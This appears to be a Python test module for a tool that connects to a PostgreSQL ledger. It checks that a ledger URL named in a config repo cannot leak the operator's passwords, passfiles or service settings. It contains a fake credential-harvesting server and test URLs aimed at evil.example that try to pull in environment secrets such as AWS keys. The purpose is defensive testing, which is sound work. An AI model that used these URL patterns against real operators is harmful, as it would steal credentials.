"""The host of a ledger that the config repo names gets nothing but what was meant for it.

Defended: the operator's environment and home: every variable but FEEDCTL_LEDGER_..., PGPASSWORD, ~/.pgpass, service
files, PGOPTIONS, Kerberos tickets and client certificates. Against: whoever may change `ledger:` of a config repo that
operators run, and the host that it names. The password itself is proved by SCRAM and never sent.

Not defended: a password that is guessed from one such proof by trying; what FEEDCTL_LEDGER, the operator's own, says.
"""

from __future__ import annotations

import os
import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path

import psycopg
import pytest
import sqlalchemy as sa

from toolkit.bootstrap.ledgers import LEDGER_VARIABLE, location_of
from toolkit.config_source import open_snapshot
from toolkit.el import ElError
from toolkit.entities.addresses import check_ledger_of_repo
from toolkit.entities.formats import FORMATS, allows
from toolkit.entities.repo import RepoSettings
from toolkit.errors import FeedctlError
from toolkit.ledger.errors import LedgerUnavailable, UnusableLedger
from toolkit.ledger.location import LedgerLocation, located
from toolkit.ledger.opening import connected

OWN, PASSWORD = "FEEDCTL_LEDGER_PASSWORD", "ledger-3141"
_PROTOCOLS = {80877103, 80877104}
"""Codes of a client that asks for TLS, or for encryption by Kerberos."""


@dataclass
class FakeHost:
    """Speaks as a PostgreSQL server that wants the client's secrets, and keeps what it gets."""

    wants: bytes
    received: bytes = b""
    startup: dict[str, str] = field(default_factory=dict)

    def serve(self, wire: socket.socket) -> None:
        wire.settimeout(2)
        with suppress(OSError, struct.error), wire:
            body = self._packet(wire)
            while struct.unpack("!I", body[:4])[0] in _PROTOCOLS:
                wire.sendall(b"N")
                body = self._packet(wire)
            words = body[4:].decode().split("\0")
            self.startup = dict(zip(words[::2], words[1::2], strict=False))
            wire.sendall(b"R" + struct.pack("!I", 4 + len(self.wants)) + self.wants)
            while piece := wire.recv(4096):
                self.received += piece

    def _packet(self, wire: socket.socket) -> bytes:
        (size,) = struct.unpack("!I", wire.recv(4))
        return wire.recv(size - 4)


@contextmanager
def fake_host(wants: bytes) -> Iterator[tuple[FakeHost, int]]:
    host = FakeHost(wants=wants)
    with closing(socket.create_server(("127.0.0.1", 0))) as listener:

        def listen() -> None:
            with suppress(OSError):
                while True:
                    host.serve(listener.accept()[0])

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield host, listener.getsockname()[1]
        listener.shutdown(socket.SHUT_RDWR)
    thread.join()


@pytest.fixture
def operator(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An operator with everything that libpq would pick up."""
    monkeypatch.delenv(LEDGER_VARIABLE, raising=False)
    passwords, services = tmp_path / ".pgpass", tmp_path / "services"
    passwords.write_text("*:*:*:*:leak-passfile\n")
    passwords.chmod(0o600)
    services.write_text("[prod]\nuser=leak-user\npassword=leak-service\noptions=-c leak.option=1\n")
    for name, text in {
        OWN: PASSWORD,
        "HOME": str(tmp_path),
        "PGPASSFILE": str(passwords),
        "PGSERVICEFILE": str(services),
        "PGSERVICE": "prod",
        "PGPASSWORD": "leak-password",
        "PGOPTIONS": "-c leak.option=2",
        "PGUSER": "leak-user",
        "PGDATABASE": "leak-database",
        "PGAPPNAME": "leak-application",
        "PGHOSTADDR": "127.0.0.9",
        "PGREQUIREAUTH": "password",
        "PGSSLCERT": str(passwords),
        "PGSSLKEY": str(passwords),
        "PGGSSENCMODE": "prefer",
    }.items():
        monkeypatch.setenv(name, text)


def of_repo(text: str, **variables: str) -> LedgerLocation:
    return located(text, named_by="repo.yaml", root=None, variables=variables, from_repo=True)


_ASKS = {
    "trust": struct.pack("!I", 0),
    "password": struct.pack("!I", 3),
    "md5": struct.pack("!I", 5) + b"salt",
    "kerberos": struct.pack("!I", 7),
    "scram": struct.pack("!I", 10) + b"SCRAM-SHA-256\0\0",
    "oauth": struct.pack("!I", 10) + b"OAUTHBEARER\0\0",
}


@pytest.mark.usefixtures("operator")
@pytest.mark.parametrize("asks", _ASKS)
@pytest.mark.parametrize("password", [PASSWORD, ""])
def test_a_host_that_asks_for_secrets_gets_none(asks: str, password: str) -> None:
    with fake_host(_ASKS[asks]) as (host, port):
        location = of_repo(f"postgresql://feedctl:${{env:{OWN}}}@127.0.0.1:{port}/ledger", **{OWN: password})
        with closing(connected(location, read_only=True)) as ledger, pytest.raises(LedgerUnavailable):
            ledger.read(lambda tx: tx.connection.exec_driver_sql("SELECT 1").close())
    assert (host.startup["user"], host.startup["database"]) == ("feedctl", "ledger")
    output = f"{host.startup} {host.received!r}"
    assert "leak" not in output
    assert PASSWORD not in output
    if asks != "scram":
        assert host.received in {b"", b"X\0\0\0\x04"}, "a client that leaves says so by X"


def test_a_ledger_of_the_repo_works_by_scram_and_by_nothing_else(
    postgres_ledger_url: sa.URL, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    url = postgres_ledger_url
    request.getfixturevalue("operator")
    (tmp_path / "repo").mkdir()
    (tmp_path / "repo" / "repo.yaml").write_text("name: web\n")
    snapshot = open_snapshot(tmp_path / "repo")
    settings = RepoSettings(ledger=f"postgresql://teller:${{env:{OWN}}}@{url.host}:{url.port}/{url.database}")
    location = location_of(snapshot, settings, os.environ)
    with _a_user_with_a_password(url), closing(connected(location, read_only=True)) as ledger:
        found = ledger.read(
            lambda tx: tx.connection.exec_driver_sql("SELECT current_user, current_setting('timezone')").one()
        )
    assert tuple(found) == ("teller", "UTC")
    with closing(connected(location, read_only=True)) as ledger, pytest.raises(LedgerUnavailable):
        ledger.read(lambda tx: tx.connection.exec_driver_sql("SELECT 1").close())  # whom the server trusts has no proof


@contextmanager
def _a_user_with_a_password(url: sa.URL) -> Iterator[None]:
    """A user of the server that only SCRAM lets in, as on a company's; the other users stay as they are."""
    with psycopg.connect(
        host=url.host, hostaddr=url.host, port=url.port, user=url.username, dbname=url.database, autocommit=True,
        require_auth="none", options="", passfile="/nowhere",
    ) as admin:  # fmt: skip
        admin.execute(f"CREATE ROLE teller LOGIN PASSWORD '{PASSWORD}'")
        rules = Path(admin.execute("SHOW hba_file").fetchone()[0])  # type: ignore[index]
        before = rules.read_text()
        try:
            rules.write_text(f"host all teller 127.0.0.1/32 scram-sha-256\n{before}")
            admin.execute("SELECT pg_reload_conf()")
            yield
        finally:
            rules.write_text(before)
            admin.execute("SELECT pg_reload_conf()")


@pytest.mark.parametrize(
    ("url", "found"),
    [
        ("postgresql://u:${env:AWS_SECRET_ACCESS_KEY}@evil.example/x", "FEEDCTL_LEDGER_"),
        ("postgresql://u:${env:LEDGER_PASSWORD}@evil.example/x", "FEEDCTL_LEDGER_"),
        ("postgresql://u:${env:FEEDCTL_BROKER_PASSWORD}@evil.example/x", "FEEDCTL_LEDGER_"),
        ("postgresql://u:${env:FEEDCTL_LEDGER}@evil.example/x", "FEEDCTL_LEDGER_"),
        ("postgresql://u:${env:FEEDCTL_LEDGER_A}@evil.example/x?sslmode=disable", "options"),
        ("postgresql://evil.example/x?user=u&password=${env:FEEDCTL_LEDGER_A}", "options"),
        ("postgresql://u:${env:FEEDCTL_LEDGER_A}@evil.example/x?passfile=/home/ann/.pgpass", "options"),
        ("postgresql://evil.example/x", "password"),
        ("postgresql://u@evil.example/x", "password"),
        ("postgresql://:${env:FEEDCTL_LEDGER_A}@evil.example/x", "password"),
    ],
)
def test_the_repo_names_a_variable_of_the_ledger_and_no_options(url: str, found: str) -> None:
    with pytest.raises(ElError, match=found):
        check_ledger_of_repo(url)
    assert not allows(FORMATS["ledger-url"], url)
    with pytest.raises(UnusableLedger, match=found):
        of_repo(url, AWS_SECRET_ACCESS_KEY="s", FEEDCTL_LEDGER_A="a", LEDGER_PASSWORD="b", FEEDCTL_BROKER_PASSWORD="c")  # noqa: S106


def test_the_operator_may_name_all_that(tmp_path: Path) -> None:
    text = "postgresql://ann:${env:PGPASSWORD}@db/x?sslmode=verify-full"
    found = located(text, named_by=LEDGER_VARIABLE, root=tmp_path, variables={"PGPASSWORD": "open"})
    assert (found.from_repo, found.url.password, found.url.query["sslmode"]) == (False, "open", "verify-full")


@pytest.mark.parametrize(
    "text",
    [
        "postgresql://db/x password=hunter2", "postgresql://db/x;password=hunter2", "postgresql://db/x&password=hunter2",
        "postgresql://db?password=hunter2", "postgresql://u%3Ahunter2@db/x", "postgresql://u;hunter2@db/x",
        "postgresql://u:p%hunter2@db:x/y", "postgresql://u:hunter2/db", "sqlite://u:hunter2@db/x",
        "sqlite:///x.db?key=hunter2", "sqlite://u:hunter2@db", "sqlite:///u:hunter2@db/", "postgresql+psycopg2://u:hunter2@db/x",
        "postgresql://u:hunter2@[db/x", "postgresql://u:x@db/y?hunter2=1", "postgresql://u:x@db:hunter2/y",
    ],
)  # fmt: skip
@pytest.mark.parametrize("from_repo", [True, False])
def test_a_malformed_url_is_shown_without_what_may_be_its_password(text: str, *, from_repo: bool) -> None:
    try:
        found = located(text, named_by=LEDGER_VARIABLE, root=None, variables={}, from_repo=from_repo)
        shown = found.place
        with closing(connected(found, read_only=True)):
            pass
    except FeedctlError as error:
        shown = str(error)
    assert "hunter2" not in shown
